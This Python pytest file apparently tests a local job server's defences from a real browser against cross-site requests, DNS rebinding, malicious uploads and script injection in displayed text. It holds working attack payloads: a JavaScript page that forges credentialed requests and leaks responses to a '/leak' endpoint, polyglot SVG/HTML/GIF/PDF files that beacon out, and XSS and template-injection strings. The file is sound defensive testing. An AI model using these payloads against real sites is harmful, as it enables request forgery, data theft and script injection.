"""What a web page can do to the server from a real browser: nothing, unless it is ours."""

from __future__ import annotations

import asyncio
import json
from collections.abc import Coroutine
from typing import Any
from urllib.parse import quote

import pytest

from tests.rig.browser import HostileSite, Page, browser, hostile_site
from tests.rig.serving import Server, chain, n, workflow

pytestmark = [pytest.mark.tool("chromium"), pytest.mark.slow]

JOB = json.dumps({"workflow": chain(1, 1.0)})

#: Everything a page can send without asking first: requests in all modes, forms, images, scripts, a socket.
ATTACKS = """
<body><script>
const target = "http://TARGET", job = JSON.stringify(JOB), tried = [];
const attempt = (name, promise) => tried.push(Promise.resolve(promise).then(() => name, error => name));
const types = ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data", "application/json"];
for (const type of types) {
  attempt("no-cors " + type, fetch(target + "/v1/jobs", {method: "POST", mode: "no-cors", credentials: "include",
    headers: {"Content-Type": type}, body: job}));
  attempt("cors " + type, fetch(target + "/v1/jobs", {method: "POST", credentials: "include",
    headers: {"Content-Type": type}, body: job}));
}
for (const path of ["/v1/jobs", "/v1/outputs", "/v1/settings", "/metrics"])
  attempt("read " + path, fetch(target + path, {credentials: "include"})
    .then(answer => answer.text()).then(text => fetch("/leak?" + encodeURIComponent(text.slice(0, 200)))));
attempt("beacon", navigator.sendBeacon(target + "/v1/queue/pause"));
attempt("no body", fetch(target + "/v1/queue/pause", {method: "POST", mode: "no-cors", credentials: "include"}));
for (const type of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
  const frame = document.createElement("iframe"); frame.name = "f" + type; document.body.append(frame);
  const form = document.createElement("form"); form.action = target + "/v1/jobs"; form.method = "POST";
  form.enctype = type; form.target = frame.name;
  const field = document.createElement("input"); field.name = job.slice(0, -1) + ',"x":"'; field.value = '"}';
  form.append(field); document.body.append(form); form.submit();
}
attempt("socket", new Promise(done => { const socket = new WebSocket(target.replace("http", "ws") + "/v1/ws");
  socket.onopen = () => fetch("/leak?socket-open").then(done); socket.onerror = done; }));
attempt("image", new Promise(done => { const image = new Image(); image.onload = () => fetch("/leak?image").then(done);
  image.onerror = done; image.src = target + "/v1/outputs"; }));
Promise.all(tried).then(() => { window.attacked = true; if (parent !== window) parent.postMessage("attacked", "*"); });
</script></body>
"""

SANDBOXED = """
<body><script>onmessage = () => { window.attacked = true; };</script>
<iframe sandbox="allow-scripts allow-forms" src="/attack"></iframe></body>
"""


def attacked(body: Coroutine[Any, Any, None]) -> None:
    asyncio.run(body)


async def opened_in_every_way(page: Page, server: Server, address: str) -> None:
    """Go to an address, then embed it into our page; no script of it may run."""
    await page.visit(f"{server.url}{address}")
    assert await page.value("window.ran === undefined"), f"{address} ran a script when it was opened"
    await page.open(f"{server.url}/")
    await page.value(EMBEDDED.replace("ADDRESS", address))
    assert await page.value("window.ran === undefined"), f"{address} ran a script in our page"


async def signed_in(page: Page, server: Server) -> None:
    """Open our page with the token, so that the browser has a session cookie."""
    await page.open(f"{server.url}/#token={server.token}")
    signed = "fetch('/v1/session', {credentials: 'same-origin'}).then(answer => answer.ok)"
    await page.until(signed, "the page to trade its token for a session")


def untouched(server: Server, site: HostileSite) -> None:
    assert server.get("/v1/jobs").json["jobs"] == []
    assert server.get("/v1/queue").json["is_paused"] is False
    assert [path for path in site.heard if path.startswith("/leak")] == []


@pytest.mark.spec("R-N01", "R-N04", "L2")
@pytest.mark.proves(17)
@pytest.mark.parametrize("host", ["evil.test", "localhost", "127.0.0.1"])
def test_another_site_can_neither_send_nor_read(server: Server, host: str) -> None:
    """A foreign name, and other ports of this machine (which browsers call same-site)."""

    async def body() -> None:
        with hostile_site() as site:
            site.pages["/attack"] = ATTACKS.replace("TARGET", f"127.0.0.1:{server.port}").replace("JOB", JOB)
            async with browser({"evil.test": "127.0.0.1"}) as page:
                await signed_in(page, server)
                await page.open(f"http://{host}:{site.port}/attack")
                await page.until("window.attacked === true", "the attack to be over")
            untouched(server, site)

    attacked(body())


@pytest.mark.spec("R-N02")
@pytest.mark.proves(17)
def test_a_sandboxed_frame_whose_origin_is_null_can_do_nothing(server: Server) -> None:
    async def body() -> None:
        with hostile_site() as site:
            site.pages["/attack"] = ATTACKS.replace("TARGET", f"127.0.0.1:{server.port}").replace("JOB", JOB)
            site.pages["/frame"] = SANDBOXED
            async with browser() as page:
                await signed_in(page, server)
                await page.open(f"http://127.0.0.1:{site.port}/frame")
                await page.until("window.attacked === true", "the attack to be over")
            untouched(server, site)

    attacked(body())


@pytest.mark.spec("R-N05")
@pytest.mark.proves(17)
def test_a_rebound_name_gets_nothing(server: Server) -> None:
    """The attacker's own name leads to this machine: the browser takes the server for the attacker's origin."""

    async def body() -> None:
        async with browser({"evil.test": "127.0.0.1"}) as page:
            await page.open(f"http://evil.test:{server.port}/")
            text = await page.value("document.body ? document.body.innerText : ''")
            assert "token" not in text.lower()
            status = await page.value(
                "fetch('/v1/session', {method: 'POST', headers: {'Content-Type': 'application/json'},"
                f" body: JSON.stringify({{token: {json.dumps(server.token)}}})}}).then(answer => answer.status, () => 'no page')"
            )
            assert status in (421, "no page")  # an empty answer gives the attacker no document to run in

    attacked(body())


@pytest.mark.spec("R-N06")
def test_our_own_page_can_do_everything_it_needs(server: Server) -> None:
    async def body() -> None:
        with hostile_site() as site:
            site.pages["/link"] = f'<a id="go" href="{server.url}/">go</a>'
            async with browser() as page:
                await signed_in(page, server)
                assert server.token not in await page.value("location.href")
                sent = (
                    "fetch('/v1/jobs', {method: 'POST', headers: {'Content-Type': 'application/json'}, body: "
                    f"{json.dumps(JOB)}}}).then(answer => answer.status)"
                )
                assert await page.value(sent) == 202
                opened = (
                    "new Promise(done => { const socket = new WebSocket(location.origin.replace('http', 'ws') + '/v1/ws');"
                    " socket.onopen = () => done('open'); socket.onerror = () => done('refused'); })"
                )
                assert await page.value(opened) == "open"
                await page.open(f"http://127.0.0.1:{site.port}/link")  # a harmless link from elsewhere must load the page
                await page.value("document.getElementById('go').click()")
                await page.until(f"location.origin === {json.dumps(server.url)}", "the link to lead to our page")
                await page.until("document.readyState === 'complete'", "our page to load")
                assert not [said for said in page.said if "Content Security Policy" in said]

    attacked(body())


HOSTILE_FILES = {
    "svg.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'BEACON\')"><script>fetch("BEACON")</script></svg>',
    "page.html": b"<!doctype html><script>fetch('BEACON')</script><img src=x onerror=\"fetch('BEACON')\">",
    "page.xhtml": b'<html xmlns="http://www.w3.org/1999/xhtml"><script>fetch("BEACON")</script></html>',
    "style.xml": b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><x><script xmlns="http://www.w3.org/1999/xhtml">fetch("BEACON")</script></x>',
    "script.png": b"fetch('BEACON')//",
    "polyglot.gif": b"GIF89a/*\x01\x00\x01\x00*/=1;fetch('BEACON')//<script>fetch('BEACON')</script>",
    "tail.png": b"\x89PNG\r\n\x1a\n<script>fetch('BEACON')</script>",
    "paper.pdf": b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj",
}


#: Asks for an address in every way that our own page could, if somebody got text into it: scripts are let pass by its
#: policy where they are of this server, so here only the content's type and `nosniff` stand in the way.
EMBEDDED = """
new Promise(done => {
  const made = trustedTypes.createPolicy("test", {createScriptURL: text => text});
  const kinds = {script: "src", img: "src", video: "src", iframe: "src", embed: "src", object: "data", link: "href"};
  let left = Object.keys(kinds).length;
  for (const [name, attribute] of Object.entries(kinds)) {
    const one = document.createElement(name);
    if (name === "link") one.rel = "stylesheet";
    one.onload = one.onerror = one.onloadstart = () => { if (--left <= 0) done(true); };
    if (name === "script") one.src = made.createScriptURL("ADDRESS"); else if (name !== "embed" && name !== "object") one[attribute] = "ADDRESS";
    if (name === "embed" || name === "object") { left--; one.setAttribute("type", "text/html"); }
    document.body.append(one);
  }
  setTimeout(done, 500, false);
})
"""


def hostile_name(beacon: str) -> str:
    """What a script would be, wherever text became markup, a script or a template."""
    run = f"window.ran=1,fetch('{beacon}')"
    return f'<img src=x onerror="{run}"><script>{run}</script>${{alert(1)}}{{{{7*7}}}}\u202e\u200b'


@pytest.mark.spec("R-N09")
@pytest.mark.proves(19)
def test_no_uploaded_file_runs_a_script_when_it_is_opened(server: Server) -> None:
    async def body() -> None:
        with hostile_site() as site:
            beacon = f"http://127.0.0.1:{site.port}/leak"
            addresses = []
            for name, content in HOSTILE_FILES.items():
                sent = server.request(
                    "POST", "/v1/files", content.replace(b"fetch(", b"window.ran=1,fetch(").replace(b"BEACON", beacon.encode()),
                    {"Content-Type": "application/octet-stream", "X-File-Name": name},
                )  # fmt: skip
                assert sent.status in (200, 201), sent.body
                addresses.append(f"/v1/files/{sent.json['sha256']}/content")
            async with browser() as page:
                await signed_in(page, server)
                for address in addresses:
                    answer = server.get(address)
                    assert answer.status == 200
                    assert answer.headers["X-Content-Type-Options"] == "nosniff"
                    assert answer.headers["Content-Security-Policy"].startswith("sandbox")
                    await opened_in_every_way(page, server, address)
            assert site.heard == []

    attacked(body())


@pytest.mark.spec("R-N10")
@pytest.mark.proves(19)
def test_no_name_or_text_runs_a_script_where_it_is_shown(server: Server) -> None:
    """Titles, prompts, labels, clients, file names and messages, in every answer that a browser can be led to."""

    async def body() -> None:
        with hostile_site() as site:
            beacon = f"http://127.0.0.1:{site.port}/leak"
            text = hostile_name(beacon)
            addresses = furnished(server, text)
            async with browser() as page:
                await signed_in(page, server)
                for address in addresses:
                    await opened_in_every_way(page, server, address)
            assert site.heard == []

    attacked(body())


def furnished(server: Server, text: str) -> list[str]:
    """Put the text wherever a text can be put; where it then stands."""
    document = workflow(
        {"text": "text.value", "picture": "save.file"},
        text=n("text", value=text), paint=n("fake/paint", value=1.0), save=n("save_image", image="@paint.image"),
    )  # fmt: skip
    document |= {"name": text[:100], "description": text}
    assert server.request("PUT", "/v1/workflows/hostile", document).status == 200
    job = server.ended(server.submit("hostile", client="<script>alert(1)</script>")["id"])
    failing = server.ended(server.submit(workflow(fail=n("fake/fail", value=1.0, message=text)), targets=["fail"])["id"])
    assert (job["state"], failing["state"]) == ("done", "failed")
    quoted = quote(text, safe="")
    sent = server.request(
        "POST", "/v1/files", text.encode(), {"Content-Type": "application/octet-stream", "X-File-Name": f"{quoted}.html"}
    )
    output = server.get("/v1/outputs").json["outputs"][0]["id"]
    own, failed = f"/v1/jobs/{job['id']}", f"/v1/jobs/{failing['id']}"
    return [
        "/", "/v1/docs", "/v1/jobs", own, f"{own}/document", f"{own}/values/text/value", f"{own}/events", failed,
        "/v1/workflows", "/v1/workflows/hostile", "/v1/workflows/hostile/file", "/v1/files", f"/v1/files/{sent.json['sha256']}",
        f"/v1/outputs/{output}", f"/v1/outputs/{output}/file", f"/v1/outputs/{output}/workflow",
        f"/v1/{quoted}", f"/v1/jobs?client={quoted}", f"/v1/nodes?{quoted}={quoted}",
    ]  # fmt: skip
